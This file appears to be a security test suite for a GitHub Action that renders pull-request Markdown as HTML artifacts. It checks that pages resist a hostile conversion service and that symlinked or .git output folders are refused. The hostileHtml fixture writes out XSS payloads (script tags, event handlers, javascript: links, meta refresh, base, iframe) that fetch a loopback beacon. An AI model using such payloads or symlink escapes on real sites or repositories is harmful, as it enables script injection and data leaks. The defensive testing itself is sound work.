/**
 * The preview artifact as an attacker would try it and as an unlucky
 * repository would: dist/index.js on a pull request, against the GitHub
 * emulator, the artifact emulator (whose zip is read back) and, for the remote engine,
 * a hostile conversion service on loopback. Pages are opened in Chromium from the
 * uploaded zip, as a reviewer opens the downloaded artifact.
 */
import { mkdir, mkdtemp, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { actionFixtures, filesOutput, makeWorkspace } from '../support/action-fixture.js';
import {
  type ArtifactEmulator,
  type ArtifactEmulatorOptions,
  runtimeEnv,
  startArtifactEmulator,
} from '../support/artifact-emulator.js';
import { type ChromiumSession, HAS_CHROMIUM, openChromium } from '../support/chromium.js';
import type { GitHubEmulator } from '../support/github-emulator.js';
import { TOKENS } from '../support/github-emulator.js';

const PR = 26;

let gh: GitHubEmulator | undefined;
let artifacts: ArtifactEmulator | undefined;
const servers: Server[] = [];
let browser: ChromiumSession | undefined;
const fixture = actionFixtures();
afterEach(async () => {
  await artifacts?.close();
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    await new Promise((done) => server.close(done));
  }
  gh = artifacts = undefined;
});
afterAll(async () => {
  await browser?.close();
});

/** A pull request run adding `files` (all of the workspace's .md files), uploading to the emulator. */
async function pullRequestRun(
  workspace: string,
  files: string[],
  {
    inputs = {},
    fault,
  }: { inputs?: Record<string, string>; fault?: ArtifactEmulatorOptions['fault'] } = {},
) {
  artifacts = await startArtifactEmulator({ fault });
  const pr = await fixture({
    workspace,
    pullRequest: { number: PR },
    changed: files.map((filename) => ({ filename, status: 'added' as const })),
    inputs: { files: '**/*.md', 'github-token': TOKENS.actions, artifact: 'true', ...inputs },
    env: runtimeEnv(artifacts.url),
    options: { timeoutMs: 120_000 },
  });
  gh = pr.gh;
  return pr.run();
}

/** The uploaded zip's entries, written to a fresh folder as a reviewer would unpack them. */
async function unpackArtifact(): Promise<{ dir: string; names: string[] }> {
  // The zip; the browser preview beside it is one unzipped file of its own.
  const zips = artifacts!.artifacts.filter((a) => a.mimeType === 'application/zip');
  expect(zips).toHaveLength(1);
  const entries = zips[0].entries;
  const dir = await mkdtemp(join(tmpdir(), 'md-platform-unzipped-'));
  for (const [name, bytes] of entries) {
    await mkdir(dirname(join(dir, name)), { recursive: true });
    await writeFile(join(dir, name), bytes);
  }
  return { dir, names: [...entries.keys()].sort() };
}

/** A loopback server that records every request: any request to it is a leak. */
async function startBeacon(): Promise<{ url: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/javascript' });
    res.end('window.pwned = "remote script";');
  });
  servers.push(server);
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

/** A conversion service whose every answer is the given HTML. */
async function startHostileService(html: string): Promise<string> {
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      if (req.url?.startsWith('/api/auth/validate')) {
        res.writeHead(204);
        res.end();
        return;
      }
      const body = JSON.stringify({
        code: 0,
        msg: 'success',
        data: { html, theme: 'default', fontSize: 'medium', wordCount: 3, estimatedReadTime: 1 },
      });
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(body);
    });
  });
  servers.push(server);
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

function hostileHtml(beacon: string): string {
  return [
    '<section><h2>Release notes</h2><p>Looks harmless.</p></section>',
    `<script>window.pwned = "inline"; fetch("${beacon}/inline-script");</script>`,
    `<script src="${beacon}/evil.js"></script>`,
    `<img src="missing.png" onerror="fetch('${beacon}/onerror')">`,
    `<svg onload="fetch('${beacon}/svg-onload')"><circle r="4"></circle></svg>`,
    `<p id="clicky" onclick="fetch('${beacon}/onclick')" onmouseover="fetch('${beacon}/hover')">hover me</p>`,
    `<a id="js-link" href="javascript:fetch('${beacon}/js-link')">a javascript: link</a>`,
    `<a id="js-link-2" href=" JaVaScRiPt:fetch('${beacon}/js-link-2')">another</a>`,
    `<meta http-equiv="refresh" content="0;url=${beacon}/refresh">`,
    `<base href="${beacon}/base/">`,
    '<img src="relative.png" alt="relative to the page, unless a base moved it">',
    `<iframe src="${beacon}/iframe"></iframe>`,
    `<object data="${beacon}/object"></object>`,
    `<form action="${beacon}/form"><button id="submit">send</button></form>`,
    `<style>body { background: url("${beacon}/style-bg"); }</style>`,
  ].join('\n');
}

async function launch(): Promise<ChromiumSession> {
  browser ??= await openChromium();
  return browser;
}

describe('a hostile conversion service', () => {
  it.skipIf(!HAS_CHROMIUM)(
    'writes nothing that runs: the page and the gallery, opened from the artifact, run only their own script and load no script',
    async () => {
      const beacon = await startBeacon();
      const service = await startHostileService(hostileHtml(beacon.url));
      const workspace = await makeWorkspace({ 'articles/notes.md': '# Notes\n\nHello.\n' });
      const run = await pullRequestRun(workspace, ['articles/notes.md'], {
        inputs: { engine: 'remote', 'api-key': 'hostile-test-key-0123456789', 'api-url': service },
      });
      expect(run.code, run.stdout + run.stderr).toBe(0);
      expect(filesOutput(run.outputs).map((f) => f.status)).toEqual(['converted']);
      const { dir, names } = await unpackArtifact();
      expect(names).toEqual(['articles/notes.md.html', 'index.html', 'report.json']);

      const context = await (await launch()).newContext();
      const dialogs: string[] = [];
      const errors: string[] = [];
      try {
        for (const [name, ownScripts] of [
          ['articles/notes.md.html', 1],
          ['index.html', 1],
        ] as const) {
          const page = await context.newPage();
          page.on('dialog', (dialog) => {
            dialogs.push(dialog.message());
            void dialog.dismiss();
          });
          page.on('pageerror', (error) => errors.push(error.message));
          const url = pathToFileURL(join(dir, name)).href;
          await page.goto(url, { waitUntil: 'load' });
          await page.waitForLoadState('networkidle');
          // Still the page that was opened (no refresh took the reviewer away), and nothing
          // reached the beacon while it loaded.
          expect(page.url()).toBe(url);
          expect(beacon.hits).toEqual([]);
          const csp = await page.getAttribute(
            'meta[http-equiv="Content-Security-Policy"]',
            'content',
          );
          // Scripts: the page's own by hash, or none at all; never inline or from a host.
          expect(/script-src ([^;]*)/.exec(csp ?? '')?.[1]).toMatch(
            ownScripts ? /^'sha256-[A-Za-z0-9+/=]+'$/ : /^'none'$/,
          );
          expect(csp).toContain("base-uri 'none'");
          // What survived into the page: no handler, no script of the answer's, no
          // javascript: link, no base, no refresh, no frame, object or form.
          const found = await page.evaluate(() => ({
            scripts: document.scripts.length,
            handlers: Array.from(document.querySelectorAll('*')).filter((el) =>
              Array.from(el.attributes).some((a) => a.name.startsWith('on')),
            ).length,
            javascriptLinks: Array.from(document.querySelectorAll('a')).filter((a) =>
              /^\s*javascript:/i.test(a.getAttribute('href') ?? ''),
            ).length,
            others: document.querySelectorAll(
              'base, meta[http-equiv="refresh"], iframe, object, embed, form, body style, svg[onload]',
            ).length,
            pwned: (window as unknown as { pwned?: string }).pwned ?? null,
          }));
          expect(found).toEqual({
            scripts: ownScripts,
            handlers: 0,
            javascriptLinks: 0,
            others: 0,
            pwned: null,
          });
          for (const link of await page.locator('a[id^="js-link"]').all()) await link.click();
          if ((await page.locator('#clicky').count()) > 0) {
            await page.locator('#clicky').hover();
            await page.locator('#clicky').click();
          }
          if (name === 'articles/notes.md.html') {
            // The page's own script still runs under the policy: the Copy button answers.
            await page.click('#copy');
            await expect.poll(() => page.textContent('#copy-status')).toMatch(/Copied|Selected/);
          }
          // Still the page that was opened: no refresh or link took the reviewer away.
          expect(page.url()).toBe(url);
          await page.close();
        }
      } finally {
        await context.close();
      }
      expect(beacon.hits).toEqual([]);
      expect(dialogs).toEqual([]);
      expect(errors).toEqual([]);
    },
    120_000,
  );
});

describe('output-dir and links planted by the pull request', () => {
  const ARTICLE = { 'articles/a.md': '# A\n\nText.\n' };
  const GIT_CONFIG =
    '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2xlYWs=\n';

  /** Names of the files under `dir`, recursively, links included, as `/` paths. */
  async function tree(dir: string): Promise<string[]> {
    const entries = await readdir(dir, { recursive: true, withFileTypes: true });
    return entries.map((e) => join(e.parentPath, e.name).slice(dir.length + 1)).sort();
  }

  type Case = {
    name: string;
    plant: (workspace: string, outside: string) => Promise<string>;
    refusal: RegExp;
  };
  const cases: Case[] = [
    {
      name: 'a symlinked folder pointing outside the workspace',
      plant: async (ws, outside) => {
        await symlink(outside, join(ws, 'site'));
        return join(ws, 'site');
      },
      refusal: /output-dir.*symbolic link/,
    },
    {
      name: 'a folder below a symlinked one',
      plant: async (ws, outside) => {
        await symlink(outside, join(ws, 'site'));
        return join(ws, 'site', 'html');
      },
      refusal: /output-dir.*symbolic link/,
    },
    {
      name: 'a symlink to .git',
      plant: async (ws) => {
        await symlink(join(ws, '.git'), join(ws, 'site'));
        return join(ws, 'site');
      },
      refusal: /output-dir.*symbolic link/,
    },
    {
      name: 'a real folder with symlinked files and folders inside',
      plant: async (ws, outside) => {
        await mkdir(join(ws, 'site'));
        await symlink(join(outside, 'victim.txt'), join(ws, 'site', 'index.html'));
        await symlink(join(outside, 'report.json'), join(ws, 'site', 'report.json'));
        await symlink(outside, join(ws, 'site', 'articles'));
        return join(ws, 'site');
      },
      refusal: /output-dir.*symbolic link/,
    },
    {
      name: 'the workspace itself',
      plant: async (ws) => ws,
      refusal: /output-dir.*is the workspace/,
    },
    {
      name: 'the .git folder',
      plant: async (ws) => join(ws, '.git'),
      refusal: /output-dir.*\.git/,
    },
  ];

  for (const { name, plant, refusal } of cases) {
    it(`refuses ${name}, and writes and uploads nothing`, async () => {
      const workspace = await makeWorkspace({ ...ARTICLE, '.git/config': GIT_CONFIG });
      const outside = await mkdtemp(join(tmpdir(), 'md-platform-outside-'));
      await writeFile(join(outside, 'victim.txt'), 'keep me\n');
      const outputDir = await plant(workspace, outside);
      const before = { workspace: await tree(workspace), outside: await tree(outside) };

      const run = await pullRequestRun(workspace, ['articles/a.md'], {
        inputs: { 'output-dir': outputDir },
      });

      expect(run.code).toBe(1);
      const errors = run.annotations.filter((a) => a.level === 'error');
      expect(errors).toHaveLength(1);
      expect(errors[0].message).toMatch(refusal);
      expect(await tree(workspace)).toEqual(before.workspace);
      expect(await tree(outside)).toEqual(before.outside);
      expect(await readFile(join(outside, 'victim.txt'), 'utf8')).toBe('keep me\n');
      expect(await readFile(join(workspace, '.git/config'), 'utf8')).toBe(GIT_CONFIG);
      expect(artifacts?.artifacts).toEqual([]);
      expect(artifacts?.requests).toEqual([]);
    });
  }

  it('still writes and uploads a normal folder inside the workspace: only what this run wrote', async () => {
    const workspace = await makeWorkspace({
      ...ARTICLE,
      'articles/b.md': '# B\n\n![chart](img/chart.png)\n',
      'articles/img/chart.png': Buffer.from('89504e470d0a1a0a', 'hex'),
      '.git/config': GIT_CONFIG,
      // Left by an earlier step: never this run's to upload.
      'site/stale.html': '<p>old</p>',
    });
    const run = await pullRequestRun(workspace, ['articles/a.md', 'articles/b.md'], {
      inputs: { 'output-dir': 'site' },
    });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.outputs['html-dir']).toBe(join(workspace, 'site'));
    const { names } = await unpackArtifact();
    expect(names).toEqual([
      'articles/a.md.html',
      'articles/b.md.html',
      'articles/img/chart.png',
      'index.html',
      'report.json',
    ]);
    expect(await readFile(join(workspace, 'site/articles/a.md.html'), 'utf8')).toContain('<h');
    expect(gh?.comments(PR)).toHaveLength(1);
  });
});

describe('file names the artifact service refuses, and an artifact outage', () => {
  // 83 CJK characters and ".md": a 252-byte name, whose page would be 257 bytes.
  const LONG = `${'长'.repeat(83)}.md`;
  const NAMES = ['Q&A: part 1.md', 'what?.md', 'a|b.md', 'say "hi".md', LONG];

  it('gives every file its result, page, comment and summary; the artifact has safe names', async () => {
    expect(Buffer.byteLength(LONG)).toBe(252);
    const paths = NAMES.map((name) => `articles/${name}`);
    const workspace = await makeWorkspace(
      Object.fromEntries(paths.map((path, i) => [path, `# Article ${i}\n\nBody ${i}.\n`])),
    );
    const run = await pullRequestRun(workspace, paths, { inputs: { 'fail-on': 'never' } });

    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.outputs.converted).toBe('5');
    const files = filesOutput(run.outputs);
    expect(files.map((f) => f.path).sort()).toEqual([...paths].sort());
    expect(files.every((f) => f.status === 'converted')).toBe(true);
    expect(run.annotations.filter((a) => a.level !== 'notice')).toEqual([]);

    const { dir, names } = await unpackArtifact();
    expect(names).toHaveLength(7);
    for (const entry of names) {
      expect(entry).not.toMatch(/[":<>|*?\r\n]/);
      for (const part of entry.split('/')) expect(Buffer.byteLength(part)).toBeLessThan(255);
    }
    // Each result names its page, which is in the artifact and shows the real path.
    for (const file of files) {
      expect(names).toContain(file.html);
      const page = await readFile(join(dir, file.html!), 'utf8');
      expect(page).toContain(file.path.replace(/&/g, '&amp;').replace(/"/g, '&quot;'));
    }
    const gallery = await readFile(join(dir, 'index.html'), 'utf8');
    expect(gallery).toContain('Q&amp;A: part 1.md');
    expect(gallery).toContain(LONG);

    const comments = gh!.comments(PR);
    expect(comments).toHaveLength(1);
    for (const text of ['part 1.md', 'what?.md', 'hi', LONG.slice(0, 20)]) {
      expect(comments[0].body).toContain(text);
      expect(run.summary).toContain(text);
    }
    expect(comments[0].body).toContain('/artifacts/');
  });

  // An outage as dropped connections: @actions/artifact gives up at once, where a 503 is
  // retried for about half a minute on the library's own schedule, which no option shortens.
  it('ends an artifact service outage with a warning, the comment, summary and outputs', async () => {
    const workspace = await makeWorkspace({ 'articles/a.md': '# A\n\nText.\n' });
    const run = await pullRequestRun(workspace, ['articles/a.md'], { fault: 'reset' });

    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(artifacts!.requests.length).toBeGreaterThan(0);
    expect(artifacts!.requests.every((r) => r.status === 0)).toBe(true);
    const warnings = run.annotations.filter((a) => a.level === 'warning');
    expect(warnings).toHaveLength(1);
    expect(warnings[0].message).toMatch(/^HTML artifact not uploaded: uploading "[^"]+" failed/);
    expect(warnings[0].message.length).toBeLessThan(1000);
    expect(run.annotations.filter((a) => a.level === 'error')).toEqual([]);
    expect(run.outputs.converted).toBe('1');
    expect(run.outputs['artifact-url'] ?? '').toBe('');
    const comments = gh!.comments(PR);
    expect(comments).toHaveLength(1);
    expect(comments[0].body).toContain('articles/a.md');
    expect(comments[0].body).toContain('HTML artifact not uploaded');
    expect(run.summary).toContain('articles/a.md');
    expect(run.summary).toContain('HTML artifact not uploaded');
  }, 120_000);
});
